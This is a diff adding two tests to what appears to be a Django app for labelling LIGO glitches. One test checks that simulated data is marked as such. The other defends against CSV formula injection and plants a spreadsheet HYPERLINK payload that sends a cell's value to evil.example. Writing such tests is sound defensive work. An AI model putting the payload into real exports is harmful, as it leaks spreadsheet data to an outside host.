@@ -271,3 +271,35 @@ def test_a_leaked_slot_is_forgotten_within_two_hours_however_often_others_ask(mo
         export_slots.export_slot_claim(user_id=1)
     fresh.release()
     export_slots.export_slot_claim(user_id=1).release()
+
+
+def test_a_simulated_glitch_is_marked_and_has_no_gravity_spy_id(client, glitches, settings):
+    """ml.synth draws ids, detectors and O1 times that look like Gravity Spy's: exported as
+    they were, a demo's simulations read as real LIGO glitches in a scientist's table."""
+    retired, _, _ = glitches
+    settings.GLITCHLAB_SIMULATED_SOURCES = ["demo-pool"]
+    Subject.objects.filter(pk=retired.pk).update(source="demo-pool")
+    client.force_login(user_in(REVIEWER, "rita"))
+
+    rows = json.loads(body(client.get(reverse("api-labels-json"))))
+
+    simulated = next(r for r in rows if r["subject_id"] == retired.pk)
+    assert simulated["simulated"] is True and simulated["gravityspy_id"] == ""
+    assert {r["simulated"] for r in rows if r["subject_id"] != retired.pk} == {False}
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, glitches):
+    """An imported file's name is a glitch's id: '=HYPERLINK(...)_1.0.png' came out of the
+    CSV as a live formula in the scientist's spreadsheet. JSON keeps the id exact."""
+    retired, _, _ = glitches
+    evil = '=HYPERLINK("http://evil.example/?"&B2,"open")'
+    Subject.objects.filter(pk=retired.pk).update(external_id=evil, source="@SUM(A1)")
+    client.force_login(user_in(REVIEWER, "rita"))
+
+    rows = list(csv.DictReader(io.StringIO(body(client.get(reverse("api-labels-csv"))))))
+
+    row = next(r for r in rows if r["subject_id"] == str(retired.pk))
+    assert row["gravityspy_id"] == "'" + evil and row["source"] == "'@SUM(A1)"
+    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "@")]
+    exact = json.loads(body(client.get(reverse("api-labels-json"))))
+    assert next(r for r in exact if r["subject_id"] == retired.pk)["gravityspy_id"] == evil
